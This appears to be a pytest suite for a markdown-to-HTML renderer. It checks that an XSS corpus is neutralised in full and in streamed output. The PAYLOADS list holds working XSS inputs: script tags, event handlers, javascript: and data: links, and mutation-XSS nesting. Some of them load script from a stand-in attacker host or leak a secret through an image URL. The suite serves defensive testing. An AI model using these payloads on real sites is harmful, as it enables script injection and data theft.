"""XSS corpus: every payload is rendered, parsed back with html.parser, and checked tag by tag.

For each payload we assert the dangerous thing is absent AND the text after it still renders,
in three places (own block, inline in a paragraph, inside a list item), through the full render
and through every intermediate state of a character-by-character stream.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from services.markdown import MarkdownStream, markdown_css, render_markdown

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre",
    "code", "em", "strong", "b", "i", "del", "s", "sub", "sup", "kbd", "a", "table", "thead",
    "tbody", "tr", "th", "td", "span", "div", "button",
}  # fmt: skip
ALLOWED_ATTRS = {"href", "title", "target", "rel", "start", "class", "type", "data-src", "data-alt", "aria-label"}
URL_ATTRS = {"href", "src", "data-src", "action", "formaction", "xlink:href"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:red">overlay</div>',
    '<div class="fixed-full bg-red">quasar overlay</div>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "![secret](https://evil.example/track.png?q=SECRET)",
    '<object data="x.swf"></object><embed src="x.swf">',
    "<form action=//evil.example><input name=p><button formaction=javascript:alert(1)>go</button></form>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<details open ontoggle=alert(1)>d</details>",
    '<p onclick="alert(1)">para</p>',
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</script>",
    "Text </script><script>alert(1)</script> more",
    "`</script><script>alert(1)</script>`",
    '[t](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    '<button class="md-img" data-src="javascript:alert(1)">fake image</button>',
    "<template><script>alert(1)</script></template>",
    '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
]  # fmt: skip

MARK = "AFTERMARK"


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_safe(html: str) -> str:
    """Fail on anything outside the allowlist; return the visible text."""
    parser = _Collect()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs:
            assert name in ALLOWED_ATTRS, (tag, name, html)
            assert not name.startswith("on")
            if name in URL_ATTRS and value:
                cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
                assert re.match(r"(https?:|mailto:|/|#|\.|[a-z0-9._~-]+(/|$|\?))", cleaned), (name, value)
                assert not cleaned.startswith(("javascript:", "data:", "vbscript:"))
            if name == "data-src":
                assert value and value.startswith(("http://", "https://"))
        if tag == "a":
            d = dict(attrs)
            assert d.get("target") == "_blank" and d.get("rel") == "noopener noreferrer"
    assert not re.search(r"<\s*/?\s*(script|style|iframe|img|svg|object|embed|form|input|base|meta|link)\b",
                         html, re.I), html  # fmt: skip
    return "".join(parser.text)


# An unclosed raw-text element (<style> here) eats the rest of its own block, as it would in a
# browser; the next block must still render.
UNCLOSED_RAW_TEXT = {"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"}


def contexts(payload: str) -> list[str]:
    inline_gap = "\n\n" if payload in UNCLOSED_RAW_TEXT else " "
    return [
        f"{payload}\n\n{MARK}",
        f"Before {payload}{inline_gap}{MARK}",
        f"- item {payload}\n- {MARK}" if inline_gap == " " else f"- item {payload}\n\n{MARK}",
        f"> {payload}\n\n{MARK}",
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised_and_following_text_renders(payload: str) -> None:
    for text in contexts(payload):
        html = render_markdown(text)
        visible = assert_safe(html)
        assert MARK in visible, (text, html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_streamed_state_is_safe(payload: str) -> None:
    text = f"{payload}\n\n{MARK}\n\n```html\n{payload}\n```\n"
    stream = MarkdownStream()
    for ch in text:
        stream.feed(ch)
        assert_safe(stream.html())
    stream.finish()
    assert MARK in assert_safe(stream.html())


def test_corpus_is_big_enough() -> None:
    assert len(PAYLOADS) >= 25


def test_html_in_code_is_shown_as_text() -> None:
    html = render_markdown("```html\n<script>alert(1)</script>\n```\n\nafter")
    assert "&lt;" in html and "script" in html and "<script" not in html
    assert "<p>after</p>" in html
    inline = render_markdown("Use `<b>` and `</script>` here")
    assert "<code>&lt;b&gt;</code>" in inline and "<code>&lt;/script&gt;</code>" in inline


def test_links_open_in_new_tab_without_opener() -> None:
    html = render_markdown("[docs](https://example.com/a?b=1&c=2) and <https://example.org>")
    assert html.count("target=_blank") == 2 and html.count('rel="noopener noreferrer"') == 2
    assert 'href="https://example.com/a?b=1&amp;c=2"' in html


def test_remote_images_become_click_to_load_placeholders() -> None:
    html = render_markdown("![a cat](https://img.example.com/cat.png)")
    assert "<img" not in html
    assert 'data-src="https://img.example.com/cat.png"' in html
    assert "a cat — img.example.com (click to load)" in html
    raw = render_markdown('Raw <img alt="a dog" src="https://img.example.com/dog.png" onerror="x()"> too')
    assert "<img" not in raw and "onerror" not in raw
    assert 'data-src="https://img.example.com/dog.png"' in raw and "a dog — img.example.com (click to load)" in raw
    assert render_markdown('<img src="javascript:alert(1)">') == "<span class=md-img-off>🖼 image</span>"
    assert "data-src" not in render_markdown("![x](/relative.png)")


def test_code_blocks_are_highlighted_with_classes_label_and_copy_button() -> None:
    html = render_markdown("```python\ndef f():\n    return 1\n```")
    assert "<span class=k>def</span>" in html and "style=" not in html
    assert "<span class=md-code-lang>python</span>" in html
    assert "aria-label=Copy" in html and ">Copy</button>" in html
    assert "md-code-lang>text</span>" in render_markdown("```\nplain\n```")


def test_table_alignment_uses_classes_not_style() -> None:
    html = render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert "class=md-al-center" in html and "class=md-al-right" in html and "style" not in html


def test_css_covers_light_and_dark_and_pygments() -> None:
    css = markdown_css()
    assert "body.body--dark .md-view .md-pre .k" in css
    assert "body:not(.body--dark) .md-view .md-pre .k" in css
    assert "\npre {" not in css  # Pygments' global rules are dropped


def test_one_word_attributes_lose_their_quotes_but_text_keeps_them() -> None:
    """Quotes cost 4 bytes each on the websocket; text that looks like an attribute must not change."""
    html = render_markdown('Say class="k" and `a="b"`\n\n```html\n<div class="x">\n```')
    assert 'class="k"' in html and '<code>a="b"</code>' in html
    assert "<span class=s>&quot;x&quot;</span>" in html or '<span class=s>"x"</span>' in html
    assert 'class="' not in html.replace('class="k"', "")
